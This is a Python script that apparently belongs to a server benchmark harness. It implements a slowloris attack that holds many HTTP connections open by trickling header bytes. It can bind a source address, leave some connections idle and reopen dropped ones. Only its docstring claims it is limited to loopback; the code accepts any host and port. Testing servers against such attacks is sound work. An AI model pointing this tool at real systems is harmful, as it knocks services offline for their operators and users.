#!/usr/bin/python3
"""Slow-header clients (slowloris) for bench/run. Standard library only.

usage: slow-clients.py HOST PORT COUNT INTERVAL_S DURATION_S [--source ADDR] [--idle SHARE]
                       [--reopen SECONDS]

Opens COUNT connections, sends a request line and the start of a header on each, then
trickles one more header byte per connection every INTERVAL_S seconds (spread evenly), so
no request ever completes and no connection is ever idle for longer than INTERVAL_S.

  --source ADDR     bind the connections to this local address (e.g. 127.0.0.2, so that
                    the attack comes from one address and other clients from another)
  --idle SHARE      this share of the connections (0..1) sends nothing at all
  --reopen SECONDS  a persistent attacker: a connection the server closed or refused is
                    opened again SECONDS later (without it, it stays closed)

Prints "READY opened=N failed=F" once every connection was tried and, at the end
(DURATION_S, SIGTERM or SIGINT), "SLOW opened=N alive=A dropped=D bytes=B reopened=R".
opened counts completed handshakes (a connection the server refuses at accept completes its
handshake and is then closed); alive is how many are open at the end; a connection the
server closed counts as dropped. Loopback only in bench/run; bounded by COUNT and DURATION_S.
"""
import collections
import errno
import resource
import select
import signal
import socket
import sys
import time

PREFIX = b"GET / HTTP/1.1\r\nHost: bench\r\nUser-Agent: slow\r\nX-Slow: "


def parse_args(argv):
    pos, opts = [], {"source": None, "idle": 0.0, "reopen": None}
    i = 0
    while i < len(argv):
        a = argv[i]
        if a in ("--source", "--idle", "--reopen"):
            if i + 1 >= len(argv):
                sys.exit(f"slow-clients: {a} needs a value")
            v = argv[i + 1]
            opts[a[2:]] = v if a == "--source" else float(v)
            i += 2
        else:
            pos.append(a)
            i += 1
    if len(pos) != 5:
        sys.exit(__doc__)
    return pos, opts


class Slot:
    __slots__ = ("sock", "state", "trickle", "due")

    def __init__(self, trickle):
        self.sock = None
        self.state = "closed"  # closed -> connecting -> open -> closed
        self.trickle = trickle
        self.due = 0.0         # when a closed slot may reopen


def main():
    (host, port, count, interval, duration), opts = parse_args(sys.argv[1:])
    port, count, interval, duration = int(port), int(count), float(interval), float(duration)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, count + 256) if hard != resource.RLIM_INFINITY else count + 256
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))

    stop = False

    def on_signal(signum, frame):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    deadline = time.monotonic() + duration
    n_idle = int(count * opts["idle"] + 0.5)
    slots = [Slot(trickle=i >= n_idle) for i in range(count)]
    by_fd = {}
    poller = select.epoll()
    reopen = collections.deque()  # closed slots in the order they may reopen
    stats = {"opened": 0, "failed": 0, "dropped": 0, "bytes": 0, "reopened": 0}

    def close(slot, now, dropped):
        fd = slot.sock.fileno()
        poller.unregister(fd)
        del by_fd[fd]
        slot.sock.close()
        slot.sock = None
        slot.state = "closed"
        if dropped:
            stats["dropped"] += 1
        if opts["reopen"] is not None:
            slot.due = now + opts["reopen"]
            reopen.append(slot)

    def start(slot):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            if opts["source"]:
                s.bind((opts["source"], 0))
            rc = s.connect_ex((host, port))
        except OSError:
            s.close()
            stats["failed"] += 1
            return False
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            stats["failed"] += 1
            return False
        slot.sock, slot.state = s, "connecting"
        by_fd[s.fileno()] = slot
        poller.register(s.fileno(), select.EPOLLOUT | select.EPOLLIN)
        return True

    def handle_events(now):
        for fd, ev in poller.poll(0, 4096):
            slot = by_fd.get(fd)
            if slot is None:
                continue
            if slot.state == "connecting":
                err = slot.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err or ev & (select.EPOLLERR | select.EPOLLHUP):
                    stats["failed"] += 1
                    close(slot, now, dropped=False)
                    continue
                if ev & select.EPOLLOUT:
                    stats["opened"] += 1
                    slot.state = "open"
                    poller.modify(fd, select.EPOLLIN)
                    if slot.trickle:
                        try:
                            stats["bytes"] += slot.sock.send(PREFIX)
                        except OSError:
                            close(slot, now, dropped=True)
                continue
            # Open: any readable event means the server gave up on us (EOF, a 4xx, a reset).
            close(slot, now, dropped=True)

    # Open everything, a batch per tick so the listen backlog is not flooded.
    batch = 500
    i = 0
    while i < count and not stop and time.monotonic() < deadline:
        for slot in slots[i:i + batch]:
            start(slot)
        i += batch
        handle_events(time.monotonic())
        time.sleep(0.02)
    t_end = time.monotonic() + 2
    while any(s.state == "connecting" for s in slots) and time.monotonic() < t_end:
        handle_events(time.monotonic())
        time.sleep(0.01)
    print(f"READY opened={stats['opened']} failed={stats['failed']}", flush=True)

    tick = 0.1
    tricklers = [s for s in slots if s.trickle]
    per_tick = max(1, int(len(tricklers) * tick / interval + 0.999))
    pos = 0
    while not stop and time.monotonic() < deadline:
        t0 = time.monotonic()
        for _ in range(min(per_tick, len(tricklers))):
            slot = tricklers[pos % len(tricklers)]
            pos += 1
            if slot.state != "open":
                continue
            try:
                stats["bytes"] += slot.sock.send(b"a")
            except OSError:
                close(slot, t0, dropped=True)
        handle_events(t0)
        while reopen and reopen[0].due <= t0:
            slot = reopen.popleft()
            if start(slot):
                stats["reopened"] += 1
            else:
                slot.due = t0 + opts["reopen"]
                reopen.append(slot)
        rest = tick - (time.monotonic() - t0)
        if rest > 0:
            time.sleep(rest)

    alive = sum(1 for s in slots if s.state == "open")
    print(f"SLOW opened={stats['opened']} alive={alive} dropped={stats['dropped']} "
          f"bytes={stats['bytes']} reopened={stats['reopened']}", flush=True)
    for s in slots:
        if s.sock is not None:
            s.sock.close()


if __name__ == "__main__":
    main()
